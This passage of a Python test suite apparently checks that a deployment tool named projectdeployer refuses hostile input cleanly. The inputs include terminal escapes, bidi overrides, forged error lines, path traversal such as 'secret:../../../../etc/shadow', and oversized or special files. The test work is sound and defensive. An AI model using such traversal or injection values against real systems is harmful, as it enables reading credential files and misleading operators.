C("lock_wait_negative_cli", [*P, "deploy", "--lock-wait", "-5"], "lock-wait")

# 6. Terminal escapes and control characters in names and values ------------------------------

F("service_name_title_escape", plus(svc(ESC_TITLE, "redis")), 1)
F("service_name_clear_screen", plus(svc(CLEAR + "x", "redis")), 1)
F("service_name_carriage_return", plus(svc("api\rnginx", "redis")), 1)
F("service_name_newline", plus(svc("a\nb", "redis")), 1)
F("service_name_nul", plus(svc("a\x00b", "redis")), 1)
F("service_name_bidi_override", plus(svc("ipa" + BIDI, "redis")), 1)
F("service_name_c1_csi", plus(svc("a\x9b2J", "redis")), 1)
F("project_name_title_escape", f"[project]\nname = {q(ESC_TITLE)}\n", "project.name")
F("project_name_bidi", f"[project]\nname = {q(BIDI + 'ppa')}\n", "project.name")
F("port_string_with_escape", BASE.replace("port = 8000", f"port = {q(ESC_TITLE)}"), "port")
F("zone_with_escape", api(server_zone=ESC_TITLE), "server_zone")
F("domain_with_escape", api(domain="a" + ESC_TITLE + ".example.com"), "domain")
F("unknown_key_with_escape", BASE + f"{q('x' + CLEAR)} = 1\n", 1)
F("unknown_type_bidi", plus(svc("db", BIDI + "lqsym")), "type")
F("depends_on_unknown_with_escape", BASE.replace('depends_on = ["postgres"]', f"depends_on = [{q(ESC_TITLE)}]"), "depends_on")
F("schedule_with_escape", plus(svc("job", "python", schedule=CLEAR + " * * * *")), "schedule")
F("env_key_with_escape", api(env_vars={ESC_TITLE: "1"}), "env_vars")
F("unknown_top_level_newline", BASE + f"\n[{q('a' + chr(10) + 'error: forged line')}]\nx = 1\n", 1)
C("cli_service_name_title_escape", [*P, "add", "redis", ESC_TITLE], 1)
C("cli_service_name_newline_forges_a_line", [*P, "add", "redis", "r\nerror: forged"], 1)
C("cli_service_name_bidi", [*P, "add", "redis", "sider" + BIDI], 1)
C("cli_project_name_title_escape", ["-p", ESC_TITLE, "show"], 1)
C("cli_project_name_carriage_return", ["-p", "my\rapp", "show"], 1)
C("cli_unknown_command_escape", [*P, "deploy" + ESC_TITLE], 1)
C("cli_unknown_add_type_escape", [*P, "add", ESC_TITLE, "x"], 1)
C("cli_unknown_option_escape", [*P, "show", "--" + CLEAR], 1)
C("cli_bad_int_echoes_escape", [*P, "add", "python", "w", "--port", ESC_TITLE], "port")
C("cli_bad_choice_echoes_escape", [*P, "add", "nodejs", "w", "--package-manager", ESC_TITLE], "package-manager")
C("cli_file_name_escape_missing", ["-f", "{root}/cwd/" + ESC_TITLE + ".toml", "show"], 1)
C("cli_remove_unknown_with_escape", [*P, "remove", ESC_TITLE], 1)
C("cli_deploy_service_unknown_with_escape", [*P, "deploy", "--service", ESC_TITLE], 1)
C("cli_env_var_without_equals_escape", [*P, "add", "python", "w", "--env-var", ESC_TITLE], "--env-var")
C("cli_volume_without_colon_escape", [*P, "add", "python", "w", "--volume", ESC_TITLE], "--volume")


def _file_named_with_newline(root: Path) -> None:
    (root / "cwd" / "bad\nerror: forged.toml").write_text(api(prot=1, servers_count="2", server_cpu="4"))


C("cli_file_name_with_newline_three_problems", ["-f", "{root}/cwd/bad\nerror: forged.toml", "validate"], 3, setup=_file_named_with_newline)

# 7. Python API misuse ------------------------------------------------------------------------


def _pd():
    from projectdeployer import ProjectDeployer

    return ProjectDeployer


A("api_create_none", lambda: _pd().create(None), "name", setup="none")
A("api_create_int", lambda: _pd().create(42), "name", setup="none")
A("api_create_list", lambda: _pd().create(["myapp"]), "name", setup="none")
A("api_create_empty", lambda: _pd().create(""), "name", setup="none")
A("api_create_traversal", lambda: _pd().create("../evil"), "name", setup="none")
A("api_create_escape", lambda: _pd().create(ESC_TITLE), "name", setup="none")
A("api_create_docker_hub_user_int", lambda: _pd().create("fresh", docker_hub_user=42), "docker_hub_user", setup="none")
A("api_create_version_float", lambda: _pd().create("fresh", version=1.0), "version", setup="none")
A("api_create_path_int", lambda: _pd().create("fresh", path=42), "path", setup="none")
A("api_create_over_project_with_services", lambda: _pd().create("myapp"), "overwrite", api_errors=("ProjectExists",))
A("api_load_none", lambda: _pd()(None), "name", setup="none")
A("api_load_int", lambda: _pd()(42), "name", setup="none")
A("api_load_escape_name", lambda: _pd()(ESC_TITLE), 1, setup="none")
A("api_add_python_service_int_name", lambda: _pd()("myapp").add_python_service(123), "name")
A("api_add_python_service_none_name", lambda: _pd()("myapp").add_python_service(None), "name")
A("api_add_service_name_escape", lambda: _pd()("myapp").add_service(ESC_TITLE, image="alpine"), 1)
A("api_env_vars_int_key", lambda: _pd()("myapp").add_python_service("w", env_vars={1: "x"}), "env_vars")
A("api_env_vars_int_value", lambda: _pd()("myapp").add_python_service("w", env_vars={"A": 1}), "env_vars")
A("api_env_vars_string", lambda: _pd()("myapp").add_python_service("w", env_vars="A=1"), "env_vars")
A("api_env_vars_none_key", lambda: _pd()("myapp").add_python_service("w", env_vars={None: "x"}), "env_vars")
A("api_port_bool", lambda: _pd()("myapp").add_python_service("w", port=True), "port")
A("api_port_float", lambda: _pd()("myapp").add_python_service("w", port=8000.0), "port")
A("api_port_object", lambda: _pd()("myapp").add_python_service("w", port=object()), "port")
A("api_requirements_files_string", lambda: _pd()("myapp").add_python_service("w", requirements_files="requirements.txt"), "requirements_files")
A("api_requirements_files_none_item", lambda: _pd()("myapp").add_python_service("w", requirements_files=[None]), "requirements_files")
A("api_depends_on_string", lambda: _pd()("myapp").add_python_service("w", depends_on="postgres"), "depends_on")
A("api_depends_on_set", lambda: _pd()("myapp").add_python_service("w", depends_on={"postgres"}), "depends_on")
A("api_command_list", lambda: _pd()("myapp").add_python_service("w", command=["uvicorn", "main:app"]), "command")
A("api_build_args_int_value", lambda: _pd()("myapp").add_python_service("w", build_args={"A": 1}), "build_args")
A("api_git_token_int", lambda: _pd()("myapp").add_python_service("w", git_repo="https://github.com/u/w.git@main", git_token=12345), "git_token")
A("api_git_token_secret_traversal", lambda: _pd()("myapp").add_python_service("w", git_repo="https://github.com/u/w.git@main", git_token="secret:../../../../etc/shadow"), "git_token")
A("api_backup_config_string_retention", lambda: _pd()("myapp").add_postgres("pg2", backup_config={"retention_days": "7"}), "retention_days")
A("api_postgres_version_int", lambda: _pd()("myapp").add_postgres("pg2", version=15), "version")
A("api_add_mysql", lambda: _pd()("myapp").add_mysql(), "postgres")
A("api_add_unknown_type", lambda: _pd()("myapp").add("mysql", "db"), "postgres")
A("api_add_type_none", lambda: _pd()("myapp").add(None, "db"), 1)
A("api_add_unknown_kwarg", lambda: _pd()("myapp").add_redis(prot=1), "prot")
A("api_update_unknown_service", lambda: _pd()("myapp").update_service("nosuch", port=1), "nosuch")
A("api_update_wrong_type", lambda: _pd()("myapp").update_service("api", port="8000"), "port")
A("api_update_name_int", lambda: _pd()("myapp").update_service(42, port=1), 1)
A("api_delete_unknown", lambda: _pd()("myapp").delete_service("nosuch"), "nosuch")
A("api_delete_none", lambda: _pd()("myapp").delete_service(None), 1)
A("api_add_nginx_collision", lambda: _pd()("myapp").add_redis("nginx"), "nginx")
A("api_add_slot_collision", lambda: _pd()("myapp").add_redis("api_b"), "api_b")
A("api_python_version_newline", lambda: _pd()("myapp").add_python_service("w", python_version="3.11" + INJECT), "python_version")
A("api_servers_count_huge", lambda: _pd()("myapp").add_python_service("w", servers_count=INT64), "servers_count")
A("api_servers_count_beyond_int64", lambda: _pd()("myapp").add_python_service("w", servers_count=10**30), "servers_count")
A("api_env_value_one_mib", lambda: _pd()("myapp").add_python_service("w", env_vars={"DEBUG": "x" * MIB}), "env_vars")
for _method, _args in {
    "deploy": dict(env="../x"),
    "plan": dict(env="../x"),
    "status": dict(env="../x"),
    "service_status": dict(env="../x"),
    "build": dict(env="../x"),
    "destroy": dict(env="../x"),
}.items():
    A(f"api_{_method}_env_traversal", (lambda m, a: lambda: getattr(_pd()("myapp"), m)(**a))(_method, _args), "env")
A("api_ports_env_traversal", lambda: _pd()("myapp").ports("../x"), "env")
A("api_logs_env_traversal", lambda: _pd()("myapp").logs("api", env="../x"), "env")
A("api_rollback_env_traversal", lambda: _pd()("myapp").rollback(env="../x", service="api"), "env")
A("api_run_job_env_traversal", lambda: _pd()("myapp").run_job("api", env="../x"), "env")
A("api_deploy_env_none_type", lambda: _pd()("myapp").deploy(env=42), "env")


def _rotator_traversal():
    from projectdeployer import SecretsRotator

    return SecretsRotator("myapp", "../x").list_secrets()


def _backups_traversal():
    from projectdeployer import BackupManager

    return BackupManager("myapp", "../x").list_backups()


def _sync_traversal():
    from projectdeployer.api.by_name import FileSync

    return FileSync("myapp", "../x").push_config()


A("api_secrets_rotator_env_traversal", _rotator_traversal, "env")
A("api_backup_manager_env_traversal", _backups_traversal, "env")
A("api_file_sync_env_traversal", _sync_traversal, "env")


def _rotator_loose_env():
    from projectdeployer import SecretsRotator

    return SecretsRotator("myapp", "Prod_1").list_secrets()


def _sync_loose_env():
    from projectdeployer.api.by_name import FileSync

    return FileSync("myapp", "my_env").push_config()


A("api_secrets_rotator_env_upper_underscore", _rotator_loose_env, "env")
A("api_file_sync_env_underscore", _sync_loose_env, "env")


def _wrong_type_cases() -> None:
    """Every add_* method, every keyword: a value of the wrong type is one ConfigError naming it."""
    import typing

    from projectdeployer.cli.options import _unwrap_optional
    from projectdeployer.core.model import spec_fields
    from projectdeployer.plugins import get_registry

    registry = get_registry()
    seen: set[str] = set()
    for type_name in ("python", "nodejs", "react", "generic", "postgres", "redis", "opensearch"):
        stype = registry.service_type(type_name)
        hints = typing.get_type_hints(stype.spec_class)
        for attribute in spec_fields(stype.spec_class):
            tp = _unwrap_optional(hints[attribute.name])
            origin = typing.get_origin(tp)
            if tp is int:
                wrong: Any = "1"
            elif tp is str or origin is typing.Literal or origin is list:
                wrong = 42
            elif origin is dict:
                wrong = ["x"]
            else:  # bool | AutoScaling, BackupConfig: tables
                wrong = "yes"
            # Common fields once (on the python service), type-specific fields on their own type.
            key = (
                attribute.name
                if attribute.name
                in {
                    "servers_count",
                    "server_zone",
                    "server_cpu",
                    "server_memory",
                    "port",
                    "command",
                    "domain",
                    "env_vars",
                    "volumes",
                    "depends_on",
                    "startup_order",
                    "schedule",
                    "auto_scaling",
                    "health_path",
                }
                else f"{type_name}.{attribute.name}"
            )
            if key in seen:
                continue
            seen.add(key)
            method = stype.api_method or "add"
            name = f"{type_name}2" if stype.default_name else "w"

            def call(method: str = method, name: str | None = name, field_name: str = attribute.name, wrong: Any = wrong) -> Any:
                return getattr(_pd()("myapp"), method)(name, **{field_name: wrong})

            A(f"api_wrong_type_{method}_{attribute.name}", call, attribute.name)


_wrong_type_cases()

# 8. Smaller, all seen -------------------------------------------------------------------------


def _project_without_services(root: Path) -> None:
    path = root / "home" / "myapp" / "project.toml"
    path.parent.mkdir(parents=True)
    path.write_text('# hand-written, keep me\n[project]\nname = "myapp"\ndocker_hub_user = "acme"\n')


def _invalid_project(root: Path) -> None:
    path = root / "home" / "myapp" / "project.toml"
    path.parent.mkdir(parents=True)
    path.write_text('[project]\nname = "myapp\n')


C("init_over_project_with_services", ["init", "myapp"], "--overwrite", must_not=("overwrite=True",))
C("init_over_project_without_services", ["init", "myapp"], "--overwrite", setup=_project_without_services, must_not=("overwrite=True",))
C("init_over_invalid_project", ["init", "myapp"], "--overwrite", setup=_invalid_project, must_not=("overwrite=True",))
C("init_name_traversal", ["init", "../evil"], 1, setup="none")
C("init_name_uppercase", ["init", "My App"], 1, setup="none")
C("init_name_escape", ["init", ESC_TITLE], 1, setup="none")
C("init_file_is_a_directory", ["-f", "{root}/cwd", "init", "fresh"], 1, setup="none")
C("missing_file_names_no_python", ["-f", "nosuch.toml", "show"], 1, must_not=("create(", "ProjectDeployer"))
C("missing_project_names_no_python", ["-p", "nosuch", "show"], 1, must_not=("create(", "ProjectDeployer"))
C("plugins_unknown_hook", ["plugins", "--hook", "nosuch"], "nosuch")
C("plugins_unknown_hook_escape", ["plugins", "--hook", ESC_TITLE], 1)
C("remove_unknown_service", [*P, "remove", "nosuch"], "nosuch")
C("add_existing_without_replace", [*P, "add", "python", "api"], "--replace")
C("add_postgres_schedule", [*P, "add", "postgres", "pg2", "--schedule", "0 2 * * *"], "--schedule")
C("add_postgres_domain", [*P, "add", "postgres", "pg2", "--domain", "db.example.com"], "--domain")
C("add_postgres_health_path", [*P, "add", "postgres", "pg2", "--health-path", "/x"], "--health-path")
C("add_postgres_horizontal_auto_scaling", [*P, "add", "postgres", "pg2", "--auto-scaling", "true"], "auto_scaling")
C("add_redis_git_repo", [*P, "add", "redis", "r2", "--git-repo", "https://github.com/u/r.git@main"], "--git-repo")
C("add_unknown_type", [*P, "add", "mysql", "db"], "mysql")
C("add_env_var_without_equals", [*P, "add", "python", "w", "--env-var", "NOEQUALS"], "--env-var")
C("add_volume_without_colon", [*P, "add", "python", "w", "--volume", "nocolon"], "--volume")
C("add_service_name_uppercase", [*P, "add", "python", "API"], 1)
C("add_depends_on_unknown", [*P, "add", "python", "w", "--depends-on", "nosuch"], "nosuch")
C("add_depends_on_itself", [*P, "add", "python", "w", "--depends-on", "w"], "depends_on")
C("add_startup_order_before_dependency", [*P, "add", "python", "w", "--depends-on", "api", "--startup-order", "1"], "startup_order")
C("both_file_and_project_flags", ["-f", "{root}/home/myapp/project.toml", "-p", "other", "show"], 1)
C("validate_unknown_option", [*P, "validate", "--strict"], "--strict")
C("show_json_and_garbage_argument", [*P, "show", "extra"], 1)

# Run as real processes: what would hang or exhaust the test process --------------------------


def _fifo(root: Path) -> None:
    os.mkfifo(root / "cwd" / "fifo.toml")


def _dev_zero(root: Path) -> None:
    (root / "cwd" / "zero.toml").symlink_to("/dev/zero")


def _huge_file(root: Path) -> None:
    # 64 MiB of valid TOML (a comment line repeated), far past any sane project file.
    line = b"# " + b"x" * 1021 + b"\n"
    with open(root / "cwd" / "huge.toml", "wb") as out:
        out.write(b'[project]\nname = "myapp"\n')
        block = line * 1024
        for _ in range(64):
            out.write(block)


def _huge_value_file(root: Path) -> None:
    (root / "cwd" / "value.toml").write_text(with_project(description="d" * (2 * MIB)))


add("proc_file_is_a_fifo", "proc", ["-f", "fifo.toml", "validate"], 1, setup=_fifo)
add("proc_file_links_to_dev_zero", "proc", ["-f", "zero.toml", "validate"], 1, setup=_dev_zero)
add("proc_file_64_mib", "proc", ["-f", "huge.toml", "validate"], 1, setup=_huge_file)
C("file_with_a_2_mib_value", ["-f", "value.toml", "validate"], 1, setup=_huge_value_file)
add("proc_file_is_dev_zero_directly", "proc", ["-f", "/dev/zero", "validate"], 1, setup="base")


# --- running a case ---------------------------------------------------------------------------


def snapshot(root: Path) -> dict[str, tuple]:
    """Every path under ``root``: its type, mode and bytes (links: their target)."""
    out: dict[str, tuple] = {}
    for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
        for name in sorted(dirnames + filenames):
            path = Path(dirpath) / name
            info = path.lstat()
            rel = str(path.relative_to(root))
            if stat.S_ISLNK(info.st_mode):
                out[rel] = ("link", os.readlink(path))
            elif stat.S_ISREG(info.st_mode):
                out[rel] = ("file", stat.S_IMODE(info.st_mode), path.read_bytes() if info.st_size < 4 * MIB else (info.st_size, hash(path.read_bytes())))
            elif stat.S_ISDIR(info.st_mode):
                out[rel] = ("dir", stat.S_IMODE(info.st_mode))
            else:
                out[rel] = ("other", stat.S_IFMT(info.st_mode), stat.S_IMODE(info.st_mode))
    return out


#: An in-process case that takes longer than this is stopped and reported as hung.
IN_PROCESS_SECONDS = 8


class Hung(BaseException):
    """Raised by the alarm in a case that did not finish in time."""


class _deadline:
    def __enter__(self) -> None:
        def ring(signum: int, frame: Any) -> None:
            raise Hung(f"still running after {IN_PROCESS_SECONDS} s")

        self.previous = signal.signal(signal.SIGALRM, ring)
        signal.alarm(IN_PROCESS_SECONDS)

    def __exit__(self, *exc: Any) -> None:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, self.previous)


@dataclass
class Outcome:
    code: int | None = None
    stdout: str = ""
    stderr: str = ""
    lines: list[str] = field(default_factory=list)  # the problem lines
    other: list[str] = field(default_factory=list)  # anything else printed on stderr
    exception: BaseException | None = None


def _prepare(case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "r"
    # $PROJECTDEPLOYER_HOME deep inside the case directory, so that a path escaping it by a few
    # "../" still lands in the snapshot instead of elsewhere on the machine.
    home = root / "home"
    (root / "cwd").mkdir(parents=True)
    home.mkdir()
    for name in list(os.environ):
        if name.startswith("PROJECTDEPLOYER_") or name == "DIGITALOCEAN_API_TOKEN":
            monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PROJECTDEPLOYER_HOME", str(home))
    # Nothing here may reach a Docker engine: a command that would is refused before or fails fast.
    monkeypatch.setenv("DOCKER_HOST", f"unix://{root}/no-docker.sock")
    monkeypatch.chdir(root / "cwd")
    if case.setup == "base":
        (home / "myapp").mkdir()
        (home / "myapp" / "project.toml").write_text(BASE)
    elif callable(case.setup):
        case.setup(root)
    if case.kind == "file":
        data = case.input if isinstance(case.input, bytes) else case.input.encode("utf-8")
        (root / "cwd" / "project.toml").write_bytes(data)
    return root


def _split(stderr: str) -> tuple[list[str], list[str]]:
    lines = stderr.split("\n")
    if lines and lines[-1] == "":
        lines.pop()
    problems = [line for line in lines if PROBLEM.match(line)]
    other = [line for line in lines if not PROBLEM.match(line)]
    return problems, other


def run_cli(argv: list[str], root: Path) -> Outcome:
    from projectdeployer.cli import main

    argv = [a.replace("{root}", str(root)) for a in argv]
    runner = CliRunner()
    outcome = Outcome()
    # color=True: output as a terminal gets it. click strips CSI sequences from output that is
    # not a terminal, which would hide an echoed "ESC[2J" here while a user's terminal runs it.
    with runner.isolation(env={"COLUMNS": "160"}, color=True) as (out, err, _):
        try:
            with _deadline():
                main(argv)
            outcome.code = 0
        except SystemExit as exc:
            outcome.code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
        except BaseException as exc:  # noqa: BLE001 - main() must not let anything through
            outcome.exception = exc
            outcome.code = None
        outcome.stdout = _unstyled(out.getvalue().decode("utf-8", "replace"))
        outcome.stderr = _unstyled(err.getvalue().decode("utf-8", "replace"))
    outcome.lines, outcome.other = _split(outcome.stderr)
    return outcome


_OWN_STYLE_START = re.compile(r"^(?:\x1b\[[0-9;]*m)+")
_OWN_STYLE_END = re.compile(r"(?:\x1b\[0m)+$")


def _unstyled(text: str) -> str:
    """``text`` without the CLI's own colouring: style codes opening a line and the reset closing
    it (``click.secho(line, fg="red")``). Anything inside a line stays, to be found."""
    return "\n".join(_OWN_STYLE_END.sub("", _OWN_STYLE_START.sub("", line)) for line in text.split("\n"))


def run_proc(argv: list[str], root: Path) -> Outcome:
    def limits() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    env = dict(os.environ)
    started = time.monotonic()
    try:
        proc = subprocess.run([str(BIN), *argv], cwd=root / "cwd", env=env, capture_output=True, timeout=20, preexec_fn=limits)
    except subprocess.TimeoutExpired as exc:
        return Outcome(code=None, stderr=f"<hung: killed after {time.monotonic() - started:.0f} s>", exception=exc)
    outcome = Outcome(code=proc.returncode, stdout=proc.stdout.decode("utf-8", "replace"), stderr=proc.stderr.decode("utf-8", "replace"))
    outcome.lines, outcome.other = _split(outcome.stderr)
    return outcome


def run_api(call: Callable[[], Any], accepted: tuple[str, ...] = ()) -> Outcome:
    outcome = Outcome()
    try:
        with _deadline():
            call()
        outcome.code = 0
    except Exception as exc:  # noqa: BLE001 - sorted below
        if not isinstance(exc, ConfigError) and type(exc).__name__ not in accepted:
            outcome.exception = exc
            outcome.code = None
            return outcome
        outcome.exception = exc
        outcome.code = 2
        outcome.lines = list(exc.lines())
        outcome.stderr = str(exc)
    except BaseException as exc:  # noqa: BLE001 - anything but ConfigError is the finding
        outcome.exception = exc
        outcome.code = None
    return outcome


def _expectation(expect: Any) -> tuple[int, tuple[str, ...]]:
    if isinstance(expect, int):
        return expect, ()
    if isinstance(expect, str):
        return 1, (expect,)
    count, *subs = expect
    return count, tuple(subs)


def _show(outcome: Outcome) -> str:
    text = outcome.stderr if len(outcome.stderr) < 3000 else outcome.stderr[:1500] + " [...] " + outcome.stderr[-1500:]
    return f"exit {outcome.code}; exception {type(outcome.exception).__name__ if outcome.exception else None}: {str(outcome.exception)[:300]!r}\nstderr: {text!r}\nstdout: {outcome.stdout[:500]!r}"


def _check_text(outcome: Outcome, root: Path, problems: list[str]) -> None:
    for stream, text in (("stdout", outcome.stdout), ("stderr", outcome.stderr)):
        bad = FORBIDDEN.search(text)
        if bad:
            problems.append(f"{stream} holds control character {bad.group()!r} at {bad.start()}")
        for line in text.split("\n"):
            shown = line.replace(str(root), "ROOT")
            if len(shown) > MAX_LINE:
                problems.append(f"{stream} has a line of {len(shown)} characters: {shown[:120]!r}...")
                break


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=c.marks) for c in CASES])
def test_hostile_input_is_refused_cleanly(case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = _prepare(case, tmp_path, monkeypatch)
    before = snapshot(root)
    count, substrings = _expectation(case.expect)
    outcomes: list[tuple[str, Outcome]] = []
    if case.kind == "file":
        outcomes.append(("cli -f project.toml validate", run_cli(["-f", "project.toml", "validate"], root)))

        def load() -> Any:
            return _pd()(str(root / "cwd" / "project.toml"))

        outcomes.append(("api ProjectDeployer(path)", run_api(load)))
    elif case.kind == "cli":
        outcomes.append(("cli", run_cli(case.input, root)))
    elif case.kind == "proc":
        outcomes.append(("process", run_proc(case.input, root)))
    else:
        outcomes.append(("api", run_api(case.input, case.api_errors)))

    problems: list[str] = []
    for label, outcome in outcomes:
        mine: list[str] = []
        is_api = label.startswith("api")
        if is_api:
            if outcome.code != 2:
                mine.append("expected ConfigError, got " + (f"{type(outcome.exception).__name__}" if outcome.exception else "no exception"))
        elif outcome.code != 2:
            mine.append(f"expected exit code 2, got {outcome.code}")
        if "Traceback" in outcome.stderr or "Traceback" in outcome.stdout:
            mine.append("a traceback was printed")
        if not is_api and outcome.other:
            mine.append(f"stderr lines that are no problem line: {[o[:100] for o in outcome.other[:3]]}")
        if outcome.code == 2:
            if len(outcome.lines) != count:
                mine.append(f"expected {count} problem line(s), got {len(outcome.lines)}")
            joined = "\n".join(outcome.lines).lower()
            for sub in substrings:
                if sub.lower() not in joined:
                    mine.append(f"the error does not name {sub!r}")
        for sub in case.must_not:
            if sub in outcome.stderr or sub in outcome.stdout:
                mine.append(f"the output says {sub!r}")
        _check_text(outcome, root, mine)
        if mine:
            problems.append(f"[{label}] " + "; ".join(mine) + "\n" + _show(outcome))

    after = snapshot(root)
    if after != before:
        changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
        problems.append(f"files changed under the case directory: {changed[:10]}")
    assert not problems, "\n".join(problems)


def test_the_table_is_big_enough_and_ids_are_unique() -> None:
    ids = [c.id for c in CASES]
    assert len(ids) == len(set(ids)), sorted({i for i in ids if ids.count(i) > 1})
    assert len(CASES) >= 150
